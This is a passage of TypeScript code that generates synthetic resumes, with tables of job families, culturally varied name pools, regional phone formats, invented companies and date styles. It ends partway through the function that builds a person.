    pool: [], generic: ['vague'], fields: ['Business Studies', 'General Studies', 'Communications'], tech: false, domain: 'office administration', noun: 'office assistant',
  },
  marketing: {
    titles: [['Marketing Assistant', 'Social Media Coordinator'], ['Marketing Coordinator', 'Campaign Specialist', 'Marketing Specialist'], ['Marketing Manager', 'Head of Marketing', 'Senior Brand Manager']],
    pool: ['Excel', 'Project Management'], generic: ['marketing'], fields: ['Marketing', 'Communications', 'Business Administration'], tech: false, domain: 'brand campaigns', noun: 'marketer',
  },
  sales: {
    titles: [['Account Development Representative', 'Inside Account Associate'], ['Account Executive', 'Account Manager'], ['Senior Account Executive', 'Regional Director']],
    pool: ['Excel', 'Leadership'], generic: ['sales'], fields: ['Business Administration', 'Economics', 'Communications'], tech: false, domain: 'selling to businesses', noun: 'account executive',
  },
  support: {
    titles: [['Support Associate', 'Help Centre Assistant'], ['Support Specialist', 'Client Support Associate', 'Account Support Manager'], ['Support Supervisor', 'Head of Support']],
    pool: ['Jira', 'Excel'], generic: ['support'], fields: ['Communications', 'Psychology', 'Business Administration'], tech: false, domain: 'helping customers', noun: 'support specialist',
  },
  teacher: {
    titles: [['Classroom Assistant', 'Trainee Teacher'], ['Mathematics Teacher', 'Science Teacher', 'English Teacher'], ['Head of Mathematics', 'Senior Teacher', 'Deputy Head Teacher']],
    pool: ['Excel', 'Leadership'], generic: ['teacher'], fields: ['Education', 'Mathematics', 'English Literature'], tech: false, domain: 'secondary schools', noun: 'teacher',
  },
  retail: {
    titles: [['Shop Floor Associate', 'Store Assistant', 'Cashier'], ['Assistant Store Manager', 'Shift Supervisor', 'Visual Merchandiser'], ['Store Manager', 'Area Manager']],
    pool: ['Excel', 'Leadership'], generic: ['retail'], fields: ['Business Administration', 'Retail Management'], tech: false, domain: 'running busy shops', noun: 'store manager',
  },
  accounting: {
    titles: [['Payables Clerk', 'Junior Accountant', 'Bookkeeper'], ['Staff Accountant', 'Accountant', 'Financial Analyst'], ['Senior Accountant', 'Finance Manager', 'Financial Controller']],
    pool: ['Excel', 'SQL', 'Power BI'], generic: ['accounting'], fields: ['Accounting', 'Finance', 'Economics'], tech: false, domain: 'month-end close and audits', noun: 'accountant',
  },
};

const NUMBERS: Record<string, (rng: Rng) => string> = {
  big: (r) => r.pick(['120K', '450K', '1.2M', '3M', '8M', '20M', '50M']),
  nines: (r) => r.pick(['99.9%', '99.95%', '99.99%']),
  hrs: (r) => String(r.int(2, 12)),
  min: (r) => String(r.int(5, 40)),
  num: (r) => String(r.int(3, 30)),
  num2: (r) => String(r.int(5, 60)),
  team: (r) => String(r.int(3, 8)),
  k: (r) => String(r.int(20, 900)),
  ms: (r) => String(r.int(40, 250)),
  usd: (r) => r.pick(['$120K', '$250K', '$400K', '$1.2M', '$2M']),
  rating: (r) => r.pick(['4.6', '4.7', '4.8']),
  score: (r) => r.pick(['95', '98', '100']),
  d: (r) => String(r.int(1, 6)),
  d2: (r) => String(r.int(5, 8)),
};

function fillNumbers(rng: Rng, template: string): string {
  const pct = rng.int(12, 65);
  const team = rng.int(3, 8);
  return template.replace(/\{(\w+)\}/g, (whole, name: string) => {
    if (name === 'pct') return String(pct);
    if (name === 'pct2') return String(Math.min(96, pct + rng.int(15, 30)));
    if (name === 'team') return String(team);
    if (name === 'team2') return String(team + rng.int(4, 15));
    const f = NUMBERS[name];
    return f ? f(rng) : whole;
  });
}

/** Which languages a framework is written in, so that bullets do not pair Django with Java. */
const FRAMEWORK_LANGS: Record<string, string[]> = {
  Django: ['Python'], Flask: ['Python'], FastAPI: ['Python'], 'Spring Boot': ['Java', 'Kotlin'], '.NET': ['C#'],
  'Ruby on Rails': ['Ruby'], 'Node.js': ['JavaScript', 'TypeScript'], Express: ['JavaScript', 'TypeScript'],
};
const fits = (a: string, b: string): boolean => {
  const [fw, lang] = KIND[a] === 'be' ? [a, b] : [b, a];
  return !(KIND[fw] === 'be' && KIND[lang] === 'lang') || (FRAMEWORK_LANGS[fw] ?? []).includes(lang);
};

const slotsOf = (template: string): string[] => [...template.matchAll(/\{(\w+)\}/g)].map((m) => m[1]).filter((k) => KINDS.has(k));

/** Bullets for one role: every skill in `skills` is used in some bullet (or in a closing "Tech stack" line). */
function jobBullets(rng: Rng, family: Family, skills: string[], count: number, usedTemplates: Set<string>, aliasRate: number): string[] {
  const remaining = [...skills];
  const bullets: string[] = [];
  const templates = rng.shuffle(SKILL_TEMPLATES);
  while (remaining.length && bullets.length < count) {
    const target = remaining[0];
    let made: string | null = null;
    for (const tpl of templates) {
      if (usedTemplates.has(tpl)) continue;
      const slots = slotsOf(tpl);
      if (!slots.includes(KIND[target])) continue;
      const pickFor: string[] = [];
      let ok = true;
      for (const kind of slots) {
        const ok2 = (s: string): boolean => KIND[s] === kind && !pickFor.includes(s) && pickFor.every((q) => fits(q, s));
        const choice = ok2(target) ? target : remaining.find(ok2);
        if (!choice) { ok = false; break; }
        pickFor.push(choice);
      }
      if (!ok) continue;
      usedTemplates.add(tpl);
      let i = 0;
      made = fillNumbers(rng, tpl.replace(/\{(\w+)\}/g, (whole, name: string) => (KINDS.has(name) ? skillText(rng, pickFor[i++], 'prose', aliasRate) : whole)));
      for (const s of pickFor) remaining.splice(remaining.indexOf(s), 1);
      break;
    }
    if (!made) break;
    bullets.push(made);
  }
  const stack = remaining.length
    ? `${rng.pick(['Tech stack', 'Stack', 'Tools', 'Environment'])}: ${remaining.map((s) => skillText(rng, s, 'list', aliasRate)).join(', ')}`
    : null;
  const generic = [...rng.shuffle(family.generic.flatMap((g) => GENERIC[g])), ...rng.shuffle(GENERIC.common)];
  const fresh = generic.filter((g) => !usedTemplates.has(g));
  // Reuse templates only when a long career has used them all.
  const mine = new Set<string>();
  for (const g of [...fresh, ...generic.filter((x) => !fresh.includes(x))]) {
    if (bullets.length >= count - (stack ? 1 : 0)) break;
    if (mine.has(g)) continue;
    mine.add(g);
    usedTemplates.add(g);
    bullets.push(fillNumbers(rng, g));
  }
  if (stack) bullets.push(stack);
  return bullets;
}

// ---------------------------------------------------------------------------------------------------------------------
// People: names, contact details, places

interface Culture { first: string[]; last: string[]; native: string; regions: string[] }
const CULTURES: Culture[] = [
  { first: ['James', 'Olivia', 'Ethan', 'Grace', 'Liam', 'Hannah', 'Noah', 'Chloe', 'Marcus', 'Rebecca', 'Daniel', 'Megan'], last: ['Carter', 'Whitfield', 'Brooks', 'Sullivan', 'Hayes', 'Morgan', 'Bennett', 'Fletcher', 'Palmer', 'Reid'], native: 'English', regions: ['US', 'US', 'UK', 'CA', 'AU'] },
  { first: ['José', 'María', 'Alejandro', 'Lucía', 'Carlos', 'Sofía', 'Javier', 'Valentina', 'Diego', 'Camila'], last: ['Martínez', 'García', 'Fernández', 'Rodríguez', 'López', 'Hernández', 'Ramírez', 'Torres', 'Morales', 'Castillo'], native: 'Spanish', regions: ['ES', 'US', 'ES', 'UK'] },
  { first: ['João', 'Ana', 'Tiago', 'Beatriz', 'Rafael', 'Mariana', 'Gonçalo', 'Inês'], last: ['Araújo', 'Silva', 'Costa', 'Ferreira', 'Oliveira', 'Pereira', 'Santos', 'Carvalho'], native: 'Portuguese', regions: ['PT', 'BR', 'BR', 'DE'] },
  { first: ['Priya', 'Arjun', 'Ananya', 'Rohan', 'Kavya', 'Vikram', 'Sneha', 'Aditya', 'Meera', 'Karthik', 'Deepika', 'Rahul'], last: ['Natarajan', 'Sharma', 'Iyer', 'Reddy', 'Patel', 'Gupta', 'Menon', 'Banerjee', 'Krishnan', 'Desai', 'Kulkarni'], native: 'Hindi', regions: ['IN', 'IN', 'IN', 'US', 'UK', 'SG'] },
  { first: ['Amara', 'Chinedu', 'Ngozi', 'Oluwaseun', 'Adaeze', 'Emeka', 'Funmilayo', 'Tunde', 'Chiamaka', 'Ifeanyi'], last: ['Okafor', 'Adeyemi', 'Okonkwo', 'Balogun', 'Eze', 'Nwosu', 'Adebayo', 'Obi'], native: 'Yoruba', regions: ['NG', 'NG', 'UK', 'US', 'CA'] },
  { first: ['Wanjiru', 'Kwame', 'Akosua', 'Kofi', 'Njeri', 'Otieno', 'Ama', 'Yaw'], last: ['Mensah', 'Kamau', 'Owusu', 'Mwangi', 'Boateng', 'Odhiambo', 'Asante', 'Wambui'], native: 'Swahili', regions: ['ZA', 'UK', 'US', 'NL'] },
  { first: ['Wei', 'Mei', 'Jun', 'Xiaoling', 'Hao', 'Yan', 'Lei', 'Jing'], last: ['Chen', 'Wang', 'Li', 'Zhang', 'Liu', 'Huang', 'Zhou', 'Lin'], native: 'Mandarin', regions: ['SG', 'US', 'CA', 'AU'] },
  { first: ['Haruto', 'Yui', 'Sota', 'Aoi', 'Ren', 'Sakura', 'Takumi', 'Hina'], last: ['Tanaka', 'Suzuki', 'Takahashi', 'Watanabe', 'Yamamoto', 'Nakamura', 'Kobayashi', 'Sato'], native: 'Japanese', regions: ['US', 'SG', 'DE', 'UK'] },
  { first: ['Min-jun', 'Seo-yeon', 'Ji-ho', 'Ha-eun', 'Do-yun', 'Soo-ah'], last: ['Kim', 'Park', 'Lee', 'Choi', 'Jung', 'Kang', 'Yoon'], native: 'Korean', regions: ['US', 'CA', 'AU'] },
  { first: ['Omar', 'Layla', 'Youssef', 'Fatima', 'Karim', 'Nour', 'Hassan', 'Salma', 'Rania', 'Tariq'], last: ['Haddad', 'Khalil', 'Mansour', 'Nasser', 'Saleh', 'Farouk', 'Aziz', 'Rahman'], native: 'Arabic', regions: ['UK', 'DE', 'FR', 'US', 'NL'] },
  { first: ['Lukas', 'Anna', 'Jonas', 'Lena', 'Felix', 'Sophie', 'Maximilian', 'Jana'], last: ['Müller', 'Schmidt', 'Schneider', 'Fischer', 'Weber', 'Becker', 'Hoffmann', 'Krüger'], native: 'German', regions: ['DE', 'DE', 'NL', 'UK'] },
  { first: ['François', 'Camille', 'Léa', 'Julien', 'Chloé', 'Mathieu', 'Élodie', 'Antoine'], last: ['Dubois', 'Lefèvre', 'Moreau', 'Laurent', 'Girard', 'Bonnet', 'Rousseau', 'Fournier'], native: 'French', regions: ['FR', 'FR', 'UK', 'CA'] },
  { first: ['Søren', 'Freja', 'Björn', 'Ingrid', 'Mikael', 'Astrid', 'Lars', 'Sigrid'], last: ['Kjær', 'Lindqvist', 'Johansson', 'Nyström', 'Halvorsen', 'Andersen', 'Berg'], native: 'Swedish', regions: ['NL', 'DE', 'UK', 'IE'] },
  { first: ['Siobhán', 'Ciarán', 'Aoife', 'Niamh', 'Oisín', 'Cian'], last: ["O'Brien", 'Murphy', 'Kelly', 'Walsh', "O'Sullivan", 'Byrne'], native: 'Irish', regions: ['IE', 'IE', 'UK', 'US'] },
  { first: ['Giulia', 'Marco', 'Chiara', 'Matteo', 'Francesca', 'Luca'], last: ['Rossi', 'Bianchi', 'Romano', 'Colombo', 'Ricci', 'Marino'], native: 'Italian', regions: ['DE', 'UK', 'NL', 'FR'] },
  { first: ['Daan', 'Sanne', 'Thijs', 'Fleur'], last: ['de Vries', 'van Dijk', 'Jansen', 'Bakker', 'van den Berg'], native: 'Dutch', regions: ['NL', 'NL', 'DE'] },
  { first: ['Łukasz', 'Małgorzata', 'Krzysztof', 'Agnieszka', 'Paweł', 'Zofia'], last: ['Kowalczyk', 'Wójcik', 'Nowak', 'Mazur', 'Krawczyk', 'Dąbrowski'], native: 'Polish', regions: ['DE', 'UK', 'NL', 'IE'] },
  { first: ['Gökhan', 'Elif', 'Emre', 'Zeynep', 'Burak', 'Ayşe'], last: ['Yıldız', 'Kaya', 'Demir', 'Şahin', 'Çelik', 'Öztürk'], native: 'Turkish', regions: ['DE', 'NL', 'UK'] },
  { first: ['Lan', 'Minh', 'Thảo', 'Huy', 'Linh', 'Quân'], last: ['Nguyễn', 'Trần', 'Phạm', 'Lê', 'Hoàng', 'Võ'], native: 'Vietnamese', regions: ['AU', 'US', 'SG', 'FR'] },
];

const isLatin1 = (s: string): boolean => [...s].every((c) => (c.codePointAt(0) ?? 0) <= 0xff);

interface Region { cc: string; places: [string, string][]; nsn: (rng: Rng, prefix: string) => string; formats: ((n: string) => string)[] }
const nanp: ((n: string) => string)[] = [
  (n) => `(${n.slice(0, 3)}) ${n.slice(3, 6)}-${n.slice(6)}`, (n) => `${n.slice(0, 3)}.${n.slice(3, 6)}.${n.slice(6)}`,
  (n) => `${n.slice(0, 3)}-${n.slice(3, 6)}-${n.slice(6)}`, (n) => `+1 ${n.slice(0, 3)}-${n.slice(3, 6)}-${n.slice(6)}`,
  (n) => `+1 (${n.slice(0, 3)}) ${n.slice(3, 6)}-${n.slice(6)}`, (n) => `+1 ${n.slice(0, 3)} ${n.slice(3, 6)} ${n.slice(6)}`,
];
const REGIONS: Record<string, Region> = {
  US: { cc: '1', places: [['San Francisco, CA', '415'], ['New York, NY', '212'], ['Chicago, IL', '312'], ['Boston, MA', '617'], ['Seattle, WA', '206'], ['Austin, TX', '512']], nsn: (r, p) => `${p}55501${digits(r, 2)}`, formats: nanp },
  CA: { cc: '1', places: [['Toronto, ON', '416'], ['Vancouver, BC', '604']], nsn: (r, p) => `${p}55501${digits(r, 2)}`, formats: nanp },
  UK: { cc: '44', places: [['London, UK', ''], ['London, United Kingdom', '']], nsn: (r) => `2079460${digits(r, 3)}`, formats: [
    (n) => `+44 ${n.slice(0, 2)} ${n.slice(2, 6)} ${n.slice(6)}`, (n) => `+44 (0)${n.slice(0, 2)} ${n.slice(2, 6)} ${n.slice(6)}`, (n) => `+44 ${n.slice(0, 3)} ${n.slice(3, 6)} ${n.slice(6)}`] },
  IN: { cc: '91', places: [['Bengaluru, India', ''], ['Pune, India', ''], ['Hyderabad, India', ''], ['Mumbai, India', ''], ['Chennai, India', '']], nsn: (r) => `98${digits(r, 8)}`, formats: [
    (n) => `+91-${n.slice(0, 5)}-${n.slice(5)}`, (n) => `+91 ${n.slice(0, 5)} ${n.slice(5)}`, (n) => `+91 ${n}`] },
  DE: { cc: '49', places: [['Berlin, Germany', '']], nsn: (r) => `30${r.int(2, 9)}${digits(r, 7)}`, formats: [
    (n) => `+49 30 ${n.slice(2)}`, (n) => `+49 (0)30 ${n.slice(2, 6)} ${n.slice(6)}`, (n) => `+49-30-${n.slice(2, 6)}-${n.slice(6)}`] },
  AU: { cc: '61', places: [['Sydney, NSW', ''], ['Melbourne, VIC', '']], nsn: (r) => `4915701${digits(r, 2)}`, formats: [
    (n) => `+61 ${n.slice(0, 3)} ${n.slice(3, 6)} ${n.slice(6)}`, (n) => `+61 ${n[0]} ${n.slice(1, 5)} ${n.slice(5)}`] },
  IE: { cc: '353', places: [['Dublin, Ireland', '']], nsn: (r) => `20910${digits(r, 4)}`, formats: [
    (n) => `+353 20 910 ${n.slice(5)}`, (n) => `+353 (0)20 910 ${n.slice(5)}`] },
  FR: { cc: '33', places: [['Paris, France', '']], nsn: (r) => `19900${digits(r, 4)}`, formats: [
    (n) => `+33 1 99 00 ${n.slice(5, 7)} ${n.slice(7)}`, (n) => `+33 (0)1 99 00 ${n.slice(5, 7)} ${n.slice(7)}`] },
  BR: { cc: '55', places: [['São Paulo, Brazil', '']], nsn: (r) => `119${r.int(6, 9)}${digits(r, 7)}`, formats: [
    (n) => `+55 11 ${n.slice(2, 7)}-${n.slice(7)}`, (n) => `+55 (11) ${n.slice(2, 7)}-${n.slice(7)}`] },
  NG: { cc: '234', places: [['Lagos, Nigeria', '']], nsn: (r) => `803${digits(r, 7)}`, formats: [
    (n) => `+234 ${n.slice(0, 3)} ${n.slice(3, 6)} ${n.slice(6)}`, (n) => `+234 (0)${n.slice(0, 3)} ${n.slice(3, 6)} ${n.slice(6)}`] },
  SG: { cc: '65', places: [['Singapore', '']], nsn: (r) => `6${digits(r, 7)}`, formats: [(n) => `+65 ${n.slice(0, 4)} ${n.slice(4)}`] },
  ZA: { cc: '27', places: [['Cape Town, South Africa', '']], nsn: (r) => `21${r.int(2, 9)}${digits(r, 6)}`, formats: [(n) => `+27 21 ${n.slice(2, 5)} ${n.slice(5)}`] },
  ES: { cc: '34', places: [['Madrid, Spain', '']], nsn: (r) => `91${r.int(2, 9)}${digits(r, 6)}`, formats: [
    (n) => `+34 ${n.slice(0, 3)} ${n.slice(3, 5)} ${n.slice(5, 7)} ${n.slice(7)}`] },
  PT: { cc: '351', places: [['Lisbon, Portugal', '']], nsn: (r) => `21${r.int(2, 9)}${digits(r, 6)}`, formats: [(n) => `+351 21 ${n.slice(2, 5)} ${n.slice(5)}`] },
  NL: { cc: '31', places: [['Amsterdam, Netherlands', '']], nsn: (r) => `20${r.int(2, 9)}${digits(r, 6)}`, formats: [
    (n) => `+31 20 ${n.slice(2, 5)} ${n.slice(5)}`, (n) => `+31 (0)20 ${n.slice(2, 5)} ${n.slice(5)}`] },
};

/** A phone number libphonenumber-js accepts, written in one of the region's local styles that parses back to it. */
function makePhone(rng: Rng, region: Region, prefix: string): { e164: string; text: string } {
  for (let attempt = 0; attempt < 50; attempt++) {
    const nsn = region.nsn(rng, prefix);
    const e164 = `+${region.cc}${nsn}`;
    if (!parsePhoneNumberFromString(e164)?.isValid()) continue;
    const text = rng.pick(region.formats)(nsn);
    const back = parsePhoneNumberFromString(text, 'US');
    return { e164, text: back?.number === e164 ? text : `+${region.cc} ${nsn}` };
  }
  throw new Error(`no valid phone number for +${region.cc}`);
}

const ascii = (s: string): string =>
  s.normalize('NFD').replace(/[\u0300-\u036f]/g, '').replace(/ł/g, 'l').replace(/Ł/g, 'L').replace(/ø/g, 'o').replace(/æ/g, 'ae')
    .replace(/ß/g, 'ss').replace(/ı/g, 'i').replace(/đ/g, 'd').replace(/Đ/g, 'D');
const handle = (s: string): string => ascii(s).toLowerCase().replace(/[^a-z]/g, '');

const COMPANIES = [
  'Northwind Logistics', 'Brightline Health', 'Bluefin Insights', 'Copperleaf Energy', 'Harborview Bank', 'Lumen Freight',
  'Orchid Telecom', 'Pinecrest Insurance', 'Quillfeather Media', 'Redwood Robotics', 'Saffron Foods', 'Tidewater Travel',
  'Umbra Security', 'Veridian Farms', 'Willowmere Retail', 'Zephyr Mobility', 'Kestrel Payments', 'Atlas & Finch',
  'Meridian Labs', 'Nimbus Learning', 'Solstice Games', 'Granite Peak Capital', 'Larkspur Pharma', 'Cobalt Systems Inc.',
  'Fernhill Studios', 'Ironbridge Manufacturing GmbH', 'Juniper Grove Hotels', 'Marigold Ventures', 'Opal Street Bank',
  'Pelican Shipping Ltd.', 'Riverstone Clinics', 'Silverline Energy', 'Tamarind Tech Pvt. Ltd.', 'Vantage Point Consulting',
  'Wavelength Audio', 'Yellowtail Markets', 'Amberfield Insurance', 'Bramble & Oak', 'Cedar Harbor Software',
  'Driftwood Media', 'Evergreen Utilities', 'Foxglove Health', 'Goldcrest Airlines', 'Hollow Creek Foods', 'Indigo Loop',
  'Kingfisher Mobile', 'Lighthouse Learning', 'Mosaic Retail Group', 'Novatide Biotech', 'Oakridge Logistics',
  'Parallax Data LLC', 'Rosewood Hospitality', 'Sunbeam Solar', 'Trellis Commerce', 'Upland Outdoor', 'Whitecap Marine plc',
];

const INSTITUTIONS = [
  'University of Lisbon', 'University of Toronto', 'Indian Institute of Technology Bombay', 'Technical University of Munich',
  'University of Manchester', 'University of Lagos', 'University of Buenos Aires', 'National University of Singapore',
  'University of Melbourne', 'Georgia Institute of Technology', 'University of Cape Town', 'Seoul National University',
  'Delft University of Technology', 'University College Dublin', 'McGill University', 'University of Nairobi', 'Kyoto University',
  'University of São Paulo', 'Politecnico di Milano', 'Sorbonne University', 'University of Texas at Austin',
  'University of Washington', 'Anna University', 'University of Edinburgh', 'KTH Royal Institute of Technology',
  'University of Ghana', 'Complutense University of Madrid', 'Jagiellonian University', 'Boğaziçi University',
  'Vietnam National University, Hanoi', 'Lakeside Community College', 'Northbridge Institute of Technology', 'Westbrook University',
];

const DEGREES = {
  bachelor: ['B.Sc.', 'BSc', 'Bachelor of Science', 'B.S.', 'B.Tech', 'B.E.', 'Bachelor of Engineering'],
  bachelorArts: ['B.A.', 'BA', 'Bachelor of Arts'],
  master: ['M.Sc.', 'MSc', 'Master of Science', 'M.S.', 'M.Eng.'],
  mba: ['MBA'],
  phd: ['Ph.D.', 'PhD'],
};

const CERTS: [string, string | null][] = [
  ['AWS Certified Solutions Architect – Associate', 'AWS'], ['Certified Kubernetes Administrator (CKA)', 'Kubernetes'],
  ['HashiCorp Certified: Terraform Associate', 'Terraform'], ['Microsoft Certified: Azure Fundamentals', 'Microsoft Azure'],
  ['Google Cloud Professional Data Engineer', 'Google Cloud Platform'], ['Professional Scrum Master I (PSM I)', 'Scrum'],
  ['PMP – Project Management Professional', 'Project Management'], ['Tableau Desktop Specialist', 'Tableau'],
  ['ISTQB Certified Tester Foundation Level', null], ['First Aid at Work', null],
];

const LANGUAGE_LEVELS = ['fluent', 'C1', 'B2', 'professional working proficiency', 'conversational'];
const OTHER_LANGUAGES = ['Spanish', 'French', 'German', 'Portuguese', 'Mandarin', 'Japanese', 'Italian', 'Dutch', 'Arabic', 'Hindi', 'Korean'];

const PROJECT_NAMES = ['Ledgerline', 'Tiny Queue', 'Paperplane', 'Wayfinder', 'Gardenia', 'Moonshot Notes', 'Parcel Tracker', 'Tidy Budget'];

// ---------------------------------------------------------------------------------------------------------------------
// Dates

/** Months as an index (year * 12 + month - 1); the corpus's "now" is January 2026. */
const NOW = 2026 * 12;
const ym = (idx: number): string => `${Math.floor(idx / 12)}-${String((idx % 12) + 1).padStart(2, '0')}`;

type DateKind = 'mon' | 'num' | 'ap' | 'full' | 'year' | 'iso';
interface DateStyle { kind: DateKind; sep: string; present: string }
const MON = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const AP = ['Jan.', 'Feb.', 'Mar.', 'Apr.', 'May', 'June', 'July', 'Aug.', 'Sept.', 'Oct.', 'Nov.', 'Dec.'];
const FULL = ['January', 'February', 'March', 'April', 'May', 'June', 'July', 'August', 'September', 'October', 'November', 'December'];

function fmtMonth(idx: number, kind: DateKind): string {
  const y = Math.floor(idx / 12);
  const m = idx % 12;
  switch (kind) {
    case 'mon': return `${MON[m]} ${y}`;
    case 'num': return `${String(m + 1).padStart(2, '0')}/${y}`;
    case 'ap': return `${AP[m]} ${y}`;
    case 'full': return `${FULL[m]} ${y}`;
    case 'year': return String(y);
    case 'iso': return ym(idx);
  }
}
const fmtRange = (start: number, end: number | null, s: DateStyle): string =>
  `${fmtMonth(start, s.kind)}${s.sep}${end === null ? s.present : fmtMonth(end, s.kind)}`;

function makeDateStyle(rng: Rng, kind: DateKind): DateStyle {
  const seps: Record<DateKind, string[]> = {
    mon: [' – ', ' - ', ' — '], num: [' - ', ' – '], ap: [' – '], full: [' to ', ' – '], year: [' – ', ' - '], iso: [' – ', ' to '],
  };
  const present = kind === 'iso' ? rng.pick(['present', 'Present']) : rng.pick(['Present', 'Present', 'Current', 'Now']);
  return { kind, sep: rng.pick(seps[kind]), present };
}

// ---------------------------------------------------------------------------------------------------------------------
// A generated person

interface Job { company: string; title: string; location: string | null; start: number; end: number | null; bullets: string[] }
interface Edu { institution: string; degree: string; field: string; start: number; end: number; endText: string; endTruth: string; datesText: string }
interface Person {
  name: string; email: string; phone: string; phoneText: string; city: string; linkedin: string | null; github: string | null;
  headline: string; summary: string | null; jobs: Job[]; edu: Edu[];
  groups: { label: string; items: string[] }[];
  projects: string[]; certs: string[]; languages: string[];
  skills: Set<string>; dates: DateStyle; tech: boolean;
}

interface PersonSpec {
  family: string;
  years: number;
  jobs: number;
  /** Skills every one of which a dated role's bullets use. */
  use?: readonly string[];
  /** Skills listed in the skills section only (keyword stuffing). */
  listOnly?: readonly string[];
  /** Listing only `listOnly` (plus what the bullets use, which for a stuffer is nothing). */
  stuffer?: boolean;
  latin1: boolean;
  bullets?: [number, number];
  dateKind: DateKind;
  degree?: 'bachelor' | 'master' | 'phd';
  /** How often aliases (JS, k8s, Postgres) replace canonical names. */
  aliasRate?: number;
  /** Skills never to add from the family's pool (a junior who must not look qualified). */
  avoid?: readonly string[];
  /** Every optional section filled (a long, two-page resume). */
  long?: boolean;
}

const article = (s: string): string =>
  /^[A-Z]{2}/.test(s) ? ('AEFHILMNORSX'.includes(s[0]) ? 'an' : 'a') : /^[aeiou]/i.test(s) && !/^(uni|eu)/i.test(s) ? 'an' : 'a';

function makePerson(rng: Rng, spec: PersonSpec): Person {
  const fam = FAMILIES[spec.family];
  const aliasRate = spec.aliasRate ?? 0.3;
  // Name, contact
  const cultures = spec.latin1 ? CULTURES.filter((c) => isLatin1(c.first.join('') + c.last.join(''))) : CULTURES;
  const culture = rng.pick(cultures);
  const first = rng.pick(culture.first);
  const last = rng.pick(culture.last);
  const middle = (culture.native === 'English' || culture.native === 'Hindi') && rng.chance(0.2) ? ` ${rng.pick(['A', 'J', 'R', 'S', 'K', 'M'])}.` : '';
  const name = `${first}${middle} ${last}`;
  const f = handle(first);
  const l = handle(last);
  const local = rng.pick([`${f}.${l}`, `${f[0]}${l}`, `${f}${l}${rng.int(1, 99)}`, `${f}_${l}`, `${l}.${f}`, `${f}.${l}`]);
  const email = `${local}@${rng.pick(['example.com', 'example.org', 'example.com'])}`;
  const region = REGIONS[rng.pick(culture.regions)];
  const [city, prefix] = rng.pick(region.places);
  const phone = makePhone(rng, region, prefix);
  const linkedin = rng.chance(0.6) ? `linkedin.com/in/${f}-${l}${rng.chance(0.3) ? `-${rng.int(10, 99)}` : ''}` : null;
  const github = fam.tech && rng.chance(0.3) ? `github.com/${f[0]}${l}` : null;

  // Timeline, newest first
  const total = Math.max(4, Math.round(spec.years * 12));
  const weights = Array.from({ length: spec.jobs }, () => rng.int(2, 6));
  const sum = weights.reduce((a, b) => a + b, 0);
  const current = rng.chance(0.7);
  let end = current ? NOW : NOW - rng.int(1, 8);
  const spans: { start: number; end: number | null }[] = [];
  for (let i = 0; i < spec.jobs; i++) {
    const months = Math.max(4, Math.round((total * weights[i]) / sum));
    const start = end - months;
    spans.push({ start, end: i === 0 && current ? null : end });
    end = start - rng.int(0, 2);
  }
  if (spec.dateKind === 'year') {
    for (const s of spans) {
      s.start -= s.start % 12;
      if (s.end !== null) s.end -= s.end % 12;
    }
  }
  const level = spec.years < 2 ? 0 : spec.years < 6 ? 1 : 2;
  const companies = rng.sample(COMPANIES, spec.jobs);
  // Skills each role uses: `use` spread over the roles (more on recent ones), then some of the family's pool.
  const perJob: string[][] = spans.map(() => []);
  if (!spec.stuffer) {
    const use = rng.shuffle(spec.use ?? []);
    use.forEach((s, i) => perJob[i < 2 ? 0 : rng.int(0, spec.jobs - 1)].push(s));
    const pool = rng.shuffle(fam.pool.filter((s) => !use.includes(s) && !(spec.avoid ?? []).includes(s)));
    for (const skills of perJob) {
      const want = rng.int(2, 4);
      while (skills.length < want && pool.length) skills.push(pool.shift() as string);
    }
  }
  const [bmin, bmax] = spec.bullets ?? [3, 5];
  const usedTemplates = new Set<string>();
  const jobs: Job[] = spans.map((span, i) => {
    const lvl = Math.max(0, level - Math.floor((i * 2) / Math.max(2, spec.jobs)));
    const title = rng.pick(fam.titles[Math.min(2, lvl)]);
    const count = Math.max(bmin, Math.min(bmax, perJob[i].length + rng.int(1, 2), i === 0 ? bmax : bmax - 1));
    return {
      company: companies[i], title, location: rng.chance(0.5) ? city : null, start: span.start, end: span.end,
      bullets: jobBullets(rng, fam, perJob[i], Math.max(bmin, count), usedTemplates, aliasRate),
    };
  });

  // Listed skills: what the roles use (sometimes minus one), extras from the pool, stuffing, skills named in titles.
  const used = new Set(perJob.flat());
  const listed = new Set<string>(spec.stuffer ? [] : [...used].filter(() => rng.chance(0.85)));
  for (const s of spec.listOnly ?? []) listed.add(s);
  if (!spec.stuffer) for (const s of rng.sample(fam.pool.filter((x) => !used.has(x) && !(spec.avoid ?? []).includes(x)), rng.int(1, 3))) listed.add(s);
  for (const s of mentionedSkills(jobs.map((j) => j.title).join('\n'))) if (!used.has(s)) listed.add(s);
  if (listed.size === 0 && fam.pool.length) listed.add(fam.pool[0]);
  const skills = new Set([...used, ...listed]);
  // Group the listed skills for "Label: a, b" lines.
  const groupName: Record<string, string> = {
    lang: 'Languages', sql: 'Languages', shell: 'Languages', be: 'Frameworks', fe: 'Frameworks', state: 'Frameworks', api: 'Frameworks',
    markup: 'Frameworks', mobilefw: 'Apps', mobileos: 'Apps', db: 'Data', cache: 'Data', search: 'Data', queue: 'Data', etl: 'Data',
    orch: 'Data', model: 'Data', warehouse: 'Data', pydata: 'Data', bi: 'Reporting', sheet: 'Reporting', analysis: 'Reporting',
    container: 'Infrastructure', iac: 'Infrastructure', ci: 'Infrastructure', cicd: 'Infrastructure', cloud: 'Infrastructure',
    os: 'Infrastructure', obs: 'Infrastructure', vcs: 'Tools', tracker: 'Tools', design: 'Tools', mlfw: 'Modelling',
    mlfield: 'Modelling', test: 'Testing', process: 'Ways of Working', lead: 'Ways of Working', pm: 'Ways of Working',
    msvc: 'Architecture', dist: 'Architecture',
  };
  const labelText: Record<string, string[]> = {
    Languages: ['Languages', 'Programming Languages', 'Programming'], Frameworks: ['Frameworks', 'Frameworks & Libraries'],
    Data: ['Data', 'Databases & Data'], Infrastructure: ['Infrastructure', 'Platforms'], Tools: ['Tools'],
    Modelling: ['Modelling'], Testing: ['Testing'], 'Ways of Working': ['Ways of Working', 'Methods'],
    Architecture: ['Architecture'], Apps: ['Apps'], Reporting: ['Reporting'],
  };
  const byGroup = new Map<string, string[]>();
  for (const s of rng.shuffle([...listed])) {
    const g = groupName[KIND[s]];
    byGroup.set(g, [...(byGroup.get(g) ?? []), skillText(rng, s, 'list', aliasRate)]);
  }
  const groups = [...byGroup].map(([g, items]) => ({ label: rng.pick(labelText[g]), items }));

  // Education, newest first
